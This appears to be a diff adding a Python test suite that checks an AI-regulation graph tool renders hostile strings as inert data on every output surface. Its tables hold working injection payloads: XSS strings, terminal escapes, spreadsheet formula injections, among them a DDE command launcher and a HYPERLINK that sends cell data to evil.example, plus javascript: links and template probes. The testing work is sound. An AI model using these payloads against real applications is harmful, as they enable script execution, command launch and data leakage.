@@ -1,0 +1,537 @@
+"""Data that would be more than data: on every surface it is shown as it is, and does nothing.
+
+Each string of a table goes through each surface; what comes out is read by a parser that is not ours.
+"""
+
+import csv
+import io
+import json
+import re
+from html.parser import HTMLParser
+
+import networkx as nx
+import pyoxigraph
+import pytest
+import rdflib
+from lxml import etree
+from markdown_it import MarkdownIt
+from starlette.testclient import TestClient
+
+from actgraph.hyperlinks import followed
+from actgraph.names import prefixes
+from actgraph.pictures import svg, written
+from actgraph.render import in_sheet, one_line, plain
+from actgraph.sarif import as_sarif
+from actgraph.web.app import app
+from actgraph.web.cells import cells
+from tests.conftest import FORMATS
+
+DAY = "2026-11-24"
+HTML = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)',
+    "</textarea></title></style><iframe srcdoc=x>",
+    "&lt;b&gt;&#60;script&#62;",
+    "<!-- ]]><b/>",
+]
+TERMINAL = [
+    "a\x1b[31mred",
+    "\x1b]0;title\x07",
+    "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
+    "a\x9b31mred",
+    "\x90q\x9c\x85",
+    "a\x07\x08\x7f",
+    "\u202egnp.exe",
+    "\u2066a\u2069 \u202ab\u202c",
+    "a\rb",
+    "a\nforged: it is well",
+    "a\u2028forged: it is well",
+    "a\r\n\tforged: it is well",
+]
+FORMULAS = [
+    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "-", "=", "+31 6 1234", "-5%", "-INF", "- a point"),
+    *(" =1+1", "\u00a0=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\x01=1+1", "\u200b=1+1", "\ufeff=1+1"),
+    *("'=1+1", '"=1+1"', '"@SUM(A1)', "\"'=1", "“=1”", "\tno formula"),
+    *("＝1+1", "＋1", "－1+A1", "＠SUM(A1)", "﹦1+1"),
+    *("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1,"a")'),
+]
+LINKS = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "\x01javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "VBScript:msgbox(1)",
+    "//evil.example/a",
+    "/\\evil.example",
+    "\\\\evil.example\\a",
+    "https://evil.example/\"onclick='alert(1)'",
+    "http://evil.example/\njavascript:alert(1)",
+]
+MARKDOWN = [
+    "[a](javascript:alert(1))",
+    "![a](https://evil.example/a.png)",
+    "<javascript:alert(1)>",
+    "<https://evil.example>",
+    "[a]: javascript:alert(1)",
+    "**a** _b_ ~~c~~ `d` $e$",
+    "a|b|c",
+    "\\|a\\",
+    "a\\\\|b",
+    "| --- | --- |",
+    "# a",
+    "https://evil.example/__a__|b",
+    "https://evil.example/*a*",
+]
+TABLES = ['a"b,c', '"', '"a', 'a\n"b",c', "a\tb", "a;b", "'", "a\r\nb,c\r\n"]
+TEMPLATES = ["{{7*7}}", "{% raw %}", "${7*7}", "{{ ''.__class__ }}", "#{7*7}", "%(a)s {0}"]
+ALL = [*HTML, *TERMINAL, *FORMULAS, *LINKS, *MARKDOWN, *TABLES, *TEMPLATES]
+NUMBERS = ["-5", "+1.5", "1.0E25", "-1e-3", "-.5", "+5."]
+
+STEERS = {chr(code) for code in [*range(9), *range(0x0B, 0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F)]}
+STEERS |= {chr(code) for code in range(0x2066, 0x206A)}
+FORGED = re.compile(r"^[ \t]*forged:", re.MULTILINE)
+
+
+def _harmless(*texts):
+    for text in texts:
+        assert not STEERS & set(text), "a sign steers the terminal"
+        assert not FORGED.search(text), "data has a line of its own"
+
+
+# ---- Rows of a query
+
+
+def _literal(words):
+    escapes = {"\\": "\\\\", '"': '\\"', "\n": "\\n", "\r": "\\r", "\t": "\\t"}
+    return '"' + "".join(escapes.get(sign, sign) for sign in words) + '"'
+
+
+@pytest.fixture
+def asked(run, tmp_path):
+    """A query from a file: what it prints in a format."""
+
+    def of(query, form):
+        file = tmp_path / "a.rq"
+        file.write_text(query, encoding="utf-8", newline="")
+        code, out, err = run("query", str(file), "--on", DAY, "-f", form)
+        assert code == 0, err
+        assert not STEERS & set(out + err)
+        return out
+
+    return of
+
+
+def _values(strings):
+    rows = " ".join(f"({_literal(one)} 'end')" for one in strings)
+    return f"SELECT ?a ?b {{ VALUES (?a ?b) {{ {rows} }} }}"
+
+
+def test_a_value_has_one_line_of_the_text(asked):
+    lines = asked(_values(ALL), "text").replace("\u2028", "\n").splitlines()
+    assert len(lines) == 1 + len(ALL)
+    assert all(line.endswith("end") for line in lines[1:])
+
+
+def test_json_has_every_value_as_it_is(asked):
+    assert [row["a"] for row in json.loads(asked(_values(ALL), "json"))] == ALL
+
+
+def _computed(cell):
+    """What a spreadsheet may compute: read otherwise than by the guard."""
+    try:
+        float(cell)
+    except ValueError:
+        seen = "".join(sign for sign in cell if sign.isprintable() and sign not in " \"'“”")
+        return cell[:1] != "'" and (cell[:1] in ("\t", "\r") or seen[:1] in tuple("=+-@＝＋－＠﹦"))
+    return False
+
+
+@pytest.mark.parametrize(("form", "between"), [("csv", ","), ("tsv", "\t")])
+def test_no_value_is_a_formula_or_another_cell(asked, form, between):
+    head, *rows = csv.reader(io.StringIO(asked(_values(ALL), form), newline=""), delimiter=between)
+    assert head == ["a", "b"]
+    assert [row for row in rows if len(row) != 2 or row[1] != "end" or _computed(row[0])] == []
+    breaks = r"[\t\r\n\x85\u2028]+" if form == "tsv" else r"(?!)"
+    shown = [plain(re.sub(breaks, " ", one)) for one in ALL]
+    assert [(cell, one) for (cell, _), one in zip(rows, shown, strict=True) if cell not in (one, f"'{one}")] == []
+
+
+@pytest.mark.parametrize("form", ["csv", "tsv"])
+def test_a_number_stays_a_number(asked, form):
+    lines = asked(_values([*NUMBERS, "a-b", "a=b"]), form).splitlines()
+    assert [re.split(r"[,\t]", line)[0] for line in lines[1:]] == [*NUMBERS, "a-b", "a=b"]
+
+
+@pytest.mark.parametrize("form", ["csv", "tsv"])
+def test_the_name_of_a_variable_is_no_formula(asked, form):
+    """Their grammar lets the wide signs in."""
+    assert asked("SELECT ?＝A1 { VALUES ?＝A1 { 1 } }", form).splitlines()[0] == "'＝A1"
+
+
+def _tables(text):
+    """The cells of the tables, and the kinds of what stands in them."""
+    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
+    rows, kinds, inside = [], set(), False
+    for token in tokens:
+        inside = token.type == "tr_open" or (inside and token.type != "tr_close")
+        if token.type == "tr_open":
+            rows.append([])
+        elif token.type == "inline":
+            kinds |= {child.type for child in token.children}
+            if inside:
+                rows[-1].append("".join(child.content for child in token.children))
+    return rows, kinds
+
+
+def test_no_value_is_markup_or_another_cell_of_markdown(asked):
+    (head, *rows), kinds = _tables(asked(_values(ALL), "markdown"))
+    assert (head, kinds) == (["a", "b"], {"text"})
+    assert rows == [[one_line(one), "end"] for one in ALL]
+
+
+def test_an_iri_in_markdown_stays_readable(asked):
+    iri = "https://w3id.org/actgraph/eli/reg/2024/1689/art_53.par_1.pnt_c"
+    assert f"| {iri} |" in asked(f"SELECT ?a {{ VALUES ?a {{ <{iri}> }} }}", "markdown")
+
+
+@pytest.mark.parametrize("form", ["text", "ttl", "nt", "jsonld"])
+def test_triples_have_every_value_as_it_is(asked, form):
+    values = " ".join(f"(<urn:n{place}> {_literal(one)})" for place, one in enumerate(ALL))
+    out = asked(f"CONSTRUCT {{ ?n rdfs:label ?a }} {{ VALUES (?n ?a) {{ {values} }} }}", form)
+    form = "ttl" if form == "text" else form
+    expected = {(f"urn:n{place}", one) for place, one in enumerate(ALL)}
+    ours = pyoxigraph.parse(out, format=FORMATS[form])
+    assert {(quad.subject.value, quad.object.value) for quad in ours} == expected
+    theirs = rdflib.Graph().parse(data=out, format={"ttl": "turtle", "jsonld": "json-ld"}.get(form, form))
+    assert {(str(subject), str(value)) for subject, value in theirs.subject_objects()} == expected
+
+
+# ---- Profiles
+
+
+def _profile(strings):
+    """A provider and a model for each string, with it as label, as country, and as a day."""
+    lines = [f"@prefix {name}: <{prefixes()[name]}> ." for name in ("ag", "rdfs", "xsd")]
+    lines.append("@prefix e: <https://e.example/> .")
+    for place, words in enumerate(strings):
+        said = _literal(words)
+        lines += [
+            f"e:p{place} a ag:Provider ; rdfs:label {said} ; ag:establishment {said} .",
+            f"e:m{place} a ag:Model ; rdfs:label {said} ; ag:developedBy e:p{place} ; ag:modalityIn {said} .",
+        ]
+    return "\n".join(lines)
+
+
+# All of them make a large profile; each kind is in this one.
+FEW = [*HTML, *TERMINAL, *FORMULAS[::3], "=cmd|' /C calc'!A0", *LINKS[::3], *MARKDOWN[:8], *TABLES[:4], TEMPLATES[0]]
+
+
+@pytest.fixture
+def told(run, tmp_path):
+    """What a command prints of a profile with these strings in a format; the name of its file is hostile as well."""
+
+    def of(command, form, *args):
+        file = tmp_path / "=a\x1b[31m <img src=x>\nforged: a_b|.ttl"
+        file.write_text(_profile(FEW), encoding="utf-8", newline="")
+        code, out, err = run(command, str(file), "--on", DAY, "-f", form, *args)
+        assert code == (1 if command == "validate" else 0), err
+        _harmless(err, "" if form == "csv" else out)
+        assert not STEERS & set(out)
+        return out
+
+    return of
+
+
+def _labels(strings):
+    return {one_line(one) for one in strings}
+
+
+@pytest.mark.parametrize("why", [(), ("--why", "53(1)(a)")], ids=["all", "why"])
+def test_assess_tells_labels_as_they_are(told, why):
+    out = told("assess", "text", *why)
+    assert [one for one in _labels(FEW) if one not in out] == []
+
+
+def test_assess_has_labels_in_json(told):
+    assert {row["modelLabel"] for row in json.loads(told("assess", "json"))} == set(FEW)
+
+
+@pytest.mark.parametrize(("form", "between"), [("csv", ","), ("tsv", "\t")])
+def test_assess_has_no_formula(told, form, between):
+    rows = list(csv.DictReader(io.StringIO(told("assess", form), newline=""), delimiter=between))
+    assert {None} & {key for row in rows for key in row} == set()
+    assert [cell for row in rows for cell in row.values() if _computed(cell)] == []
+    assert len({row["model"] for row in rows}) == len(FEW)
+
+
+@pytest.mark.parametrize("command", ["assess", "validate"])
+def test_a_profile_makes_no_markup_in_markdown(told, command):
+    rows, kinds = _tables(told(command, "markdown"))
+    assert kinds == {"text"}
+    assert len({len(row) for row in rows}) == 1
+    place = rows[0].index("modelLabel" if command == "assess" else "node")
+    assert _labels(FEW) <= {row[place] for row in rows}
+
+
+def test_validate_tells_labels_as_they_are(told):
+    out = told("validate", "text")
+    assert [one for one in _labels(FEW) if f"({one})" not in out] == []
+
+
+def test_validate_has_labels_in_json(told):
+    assert set(FEW) <= {row["nodeLabel"] for row in json.loads(told("validate", "json"))}
+
+
+def test_sarif_has_no_link_of_the_data(told):
+    run = json.loads(told("validate", "sarif"))["runs"][0]
+    messages = [result["message"]["text"] for result in run["results"]]
+    assert not [one for one in messages if re.search(r"(?<!\\)\[[^\]]*\]\(", one)]
+    pages = [rule["helpUri"] for rule in run["tool"]["driver"]["rules"] if "helpUri" in rule]
+    assert [one for one in pages if not one.startswith(("http://", "https://"))] == []
+
+
+def test_junit_has_no_element_of_the_data(told):
+    root = etree.fromstring(told("validate", "junit").encode())
+    assert {one.tag for one in root.iter()} <= set("testsuites testsuite testcase failure properties property".split())
+    words = "".join(root.itertext())
+    assert [one for one in _labels(HTML) if f"({one})" not in words] == []
+
+
+def test_the_report_of_shacl_has_every_value_as_it_is(told):
+    found = pyoxigraph.parse(told("validate", "ttl"), format=pyoxigraph.RdfFormat.TURTLE)
+    values = {quad.object.value for quad in found if quad.predicate.value == prefixes()["sh"] + "value"}
+    assert set(FEW) - values == set()
+
+
+# ---- Pages
+
+CLIENT = TestClient(app(DAY), base_url="http://127.0.0.1", headers={"accept": "text/html"})
+TARGETS = {"href", "src", "action", "formaction", "xlink:href"}
+
+
+class _Reader(HTMLParser):
+    """The elements of a page with the names of their attributes; addresses; and words."""
+
+    def __init__(self, text):
+        super().__init__()
+        self.elements, self.addresses, self.words, self.values = [], [], [], []
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append((tag, *sorted(name for name, _ in attrs)))
+        self.addresses += [value for name, value in attrs if name in TARGETS]
+        self.values += [value for name, value in attrs if name == "value"]
+
+    def handle_data(self, data):
+        self.words.append(data)
+
+
+def _page(answer, *statuses):
+    assert answer.status_code in (statuses or (200,)), answer.text[:300]
+    page = _Reader(answer.text)
+    assert not STEERS & set(answer.text)
+    assert [one for one in page.addresses if not followed(one) or (one.startswith("http") and "evil" in one)] == []
+    names = {name for _, *attributes in page.elements for name in attributes}
+    assert [name for name in names if name.startswith("on") or name in ("style", "srcdoc", "autofocus")] == []
+    assert {tag for tag, *_ in page.elements} & {"script", "img", "svg", "iframe", "b", "i", "math", "object"} == set()
+    return page
+
+
+def _post(strings, accept="text/html"):
+    body = _profile(strings).encode()
+    return CLIENT.post("/profile", content=body, headers={"content-type": "text/turtle", "accept": accept})
+
+
+def test_a_profile_adds_nothing_to_the_elements_of_its_page():
+    page = _page(_post(FEW))
+    assert page.elements == _page(_post([f"tame {place}" for place in range(len(FEW))])).elements
+    words = " ".join("".join(page.words).split())
+    assert [one for one in _labels(FEW) if one not in words] == []
+
+
+def test_the_form_keeps_what_was_written_into_it():
+    text = _profile(HTML) + "\n</textarea><script>alert(1)</script>"
+    answer = CLIENT.post("/profile", files={"text": (None, text), "form": (None, "ttl")})
+    page = _page(answer, 200, 400)
+    assert text in "".join(page.words)
+
+
+def test_a_posted_profile_is_data_in_json_and_turtle():
+    data = _post(FEW, "application/json").json()["data"]
+    assert {row["modelLabel"] for row in data["assessment"]} == set(FEW)
+    report = pyoxigraph.parse(_post(FEW, "text/turtle").text, format=pyoxigraph.RdfFormat.TURTLE)
+    assert set(FEW) <= {quad.object.value for quad in report if quad.predicate.value == prefixes()["sh"] + "value"}
+
+
+@pytest.mark.parametrize("words", FEW)
+def test_a_search_shows_the_words_and_nothing_more(words):
+    page = _page(CLIENT.get("/search", params={"q": words}))
+    assert " ".join("".join(one if one.isprintable() else " " for one in words).split()) in page.values
+
+
+@pytest.mark.parametrize("words", FEW)
+def test_an_error_page_shows_the_words_and_nothing_more(words):
+    for path, params in (
+        ("/profile", {"example": words}),
+        ("/queries/coverage-of-provision", {"provision": words}),
+        ("/queries/coverage-of-provision", {words: "53", "provision": "53"}),
+        ("/diff", {words: words}),
+    ):
+        _page(CLIENT.get(path, params=params), 400, 404)
+    name = re.sub(r"[\x00-\x20\x7f/?#\\]", "", words)
+    _page(CLIENT.get(f"/queries/{name}"), 400, 404)
+    _page(CLIENT.get(f"/{name}"), 400, 404)
+    _page(CLIENT.get(f"/on/{name}/timeline"), 400, 404)
+
+
+@pytest.mark.parametrize("address", [*LINKS, *HTML, *MARKDOWN[:5], *TERMINAL])
+def test_only_the_web_and_our_own_pages_are_linked(address):
+    assert followed(address) == ""
+    (cell,) = cells(["a"], {"a": address})
+    assert (cell.iri, cell.address) == ("", "")
+    assert "<a" not in svg.link(address, "", [])
+    graph = nx.MultiDiGraph()
+    graph.add_node("urn:a", label="a", title="", kind="Point")
+    assert "click" not in written.mermaid(graph, lambda _: address)
+    assert "URL" not in written.dot(graph, lambda _: address)
+
+
+@pytest.mark.parametrize(
+    "address",
+    ["https://example.org/a_b?c=d&e#f", "HTTP://example.org", "/on/2026-07-26/eli/a#b", "../a.html", "#a"],
+)
+def test_the_web_and_our_own_pages_are_linked(address):
+    assert followed(address) == address
+
+
+# ---- Pictures
+
+
+def test_a_picture_has_no_element_of_the_data():
+    lines = [svg.text(0, 0, one) for one in ALL]
+    lines += [svg.link("https://example.org/", one, [svg.line([(0, 0), (1, 1)], "link", one)]) for one in ALL]
+    root = etree.fromstring(svg.picture(HTML[2], (1, 1), lines, standalone=True).encode())
+    tags = [etree.QName(one).localname for one in root.iter()]
+    assert tags.count("text") == tags.count("a") == tags.count("path") == len(ALL)
+    assert set(tags) == {"svg", "title", "style", "rect", "text", "a", "path"}
+    names = {name for one in root.iter() for name in one.attrib}
+    assert names == set("width height viewBox class role aria-label x y href d".split())
+    assert [one.text for one in root.iter("{*}text")] == [plain(one).replace("\r", "") for one in ALL]
+
+
+def _drawn():
+    graph = nx.MultiDiGraph()
+    for place, words in enumerate(ALL):
+        graph.add_node(f"https://e.example/{place}", label=words, title=words, kind="Point")
+    return graph
+
+
+def test_graphml_is_well_formed_with_any_label():
+    root = etree.fromstring(written.graphml(_drawn(), str).encode())
+    assert {etree.QName(one).localname for one in root.iter()} == {"graphml", "key", "graph", "node", "data"}
+    assert len(root.findall(".//{*}node")) == len(ALL)
+
+
+def test_mermaid_has_a_line_a_node_with_any_label():
+    head, *lines = written.mermaid(_drawn(), str).splitlines()
+    assert head == "flowchart LR"
+    labels, clicks = lines[: len(ALL)], lines[len(ALL) :]
+    assert [line for line in labels if not re.fullmatch(r'  n\d+\["[^"<>`]*"\]', line)] == []
+    assert [line for line in clicks if not re.fullmatch(r'  click n\d+ href "https://e\.example/\d+"', line)] == []
+
+
+def test_dot_has_a_node_with_any_label():
+    import html
+
+    import pygraphviz
+
+    graph = _drawn()
+    graph.add_node("https://e.example/html", label="<b>a</b>", title="", kind="Point")  # in brackets it would be HTML
+    text = written.dot(graph, str)
+    assert not STEERS & set(text)
+    read = pygraphviz.AGraph(string=text)
+    assert len(read.nodes()) == len(ALL) + 1
+    shown = {html.unescape(node.attr["label"]).replace("\\\\", "\\") for node in read.nodes()}
+    assert {plain(html.unescape(one)) for one in [*ALL, "<b>a</b>"]} <= {html.unescape(one) for one in shown}
+    assert not [node for node in read.nodes() if node.attr["label"].startswith("<")]
+
+
+# ---- Messages
+
+TYPED = [*TERMINAL, *FORMULAS[:4], HTML[0], "a.rq\x1b", "a\nforged: b.ttl", "\x1b[2J/a.ttl"]
+COMMANDS = [
+    lambda words: ["show", words],
+    lambda words: ["path", words, "53"],
+    lambda words: ["covers", "53", "--on", words],
+    lambda words: ["covers", "53", "-f", words],
+    lambda words: ["covers", "53", f"--{words}"],
+    lambda words: ["gaps", words],
+    lambda words: ["timeline", "--for", words],
+    lambda words: ["diff", words, "2026-07-27"],
+    lambda words: ["query", words],
+    lambda words: ["query", f"./{words}.rq"],
+    lambda words: ["query", "coverage-of-provision", "--param", words],
+    lambda words: ["query", "coverage-of-provision", "--param", f"provision={words}"],
+    lambda words: ["query", "coverage-of-provision", "--param", f"{words}=53"],
+    lambda words: ["queries", words],
+    lambda words: ["assess", words],
+    lambda words: ["assess", f"{words}.ttl"],
+    lambda words: ["validate", words],
+    lambda words: ["draw", words],
+    lambda words: ["draw", "53", "-o", f"a.{words}"],
+    lambda words: ["export", words],
+    lambda words: ["export", "53", "-o", f"nowhere/{words}.csv"],
+    lambda words: ["profile", "new", f"nowhere/{words}"],
+    lambda words: ["build", words],
+    lambda words: ["text", "load", words],
+    lambda words: [words],
+]
+
+
+@pytest.mark.parametrize("command", COMMANDS, ids=lambda one: " ".join(one("…")))
+def test_a_message_quotes_what_was_typed_and_does_nothing(run, tmp_path, monkeypatch, command):
+    monkeypatch.chdir(tmp_path)
+    for words in TYPED:
+        code, out, err = run(*command(words))
+        assert (code, out) == (2, ""), (words, err)
+        _harmless(err)
+
+
+@pytest.mark.parametrize("text", ["a {w}", "SELECT * {{ ?a ?b {w}", "#+ param: {w}\nASK {{}}", "ASK {{ a:{w} ?a ?b }}"])
+def test_a_message_quotes_a_query_and_does_nothing(run, tmp_path, text):
+    file = tmp_path / "a.rq"
+    for words in TYPED:
+        file.write_text(text.format(w=words), encoding="utf-8", newline="")
+        code, out, err = run("query", str(file), "-f", "csv")
+        assert code in (0, 2), err
+        _harmless(out, err)
+
+
+@pytest.mark.parametrize("form", ["ttl", "trig", "nt", "xml", "jsonld"])
+@pytest.mark.parametrize("command", ["assess", "validate"])
+def test_a_message_quotes_a_profile_and_does_nothing(run, tmp_path, command, form):
+    file = tmp_path / f"a.{form}"
+    for words in TYPED:
+        file.write_text(f"<a> {words} <b", encoding="utf-8", newline="")
+        code, out, err = run(command, str(file), "--from", form)
+        assert (code, out) == (2, ""), (words, err)
+        _harmless(err)
+
+
+def test_an_address_of_help_in_sarif_is_of_the_web():
+    from actgraph.findings import Finding, Report
+
+    one = Finding("a", 1, "n", "n", "", "", "info", "m", "", "javascript:alert(1)", "s", "https://e.example/shape")
+    (rule,) = json.loads(as_sarif(Report([one], ["a"], "")))["runs"][0]["tool"]["driver"]["rules"]
+    assert "helpUri" not in rule
+    assert in_sheet(one.source) == one.source
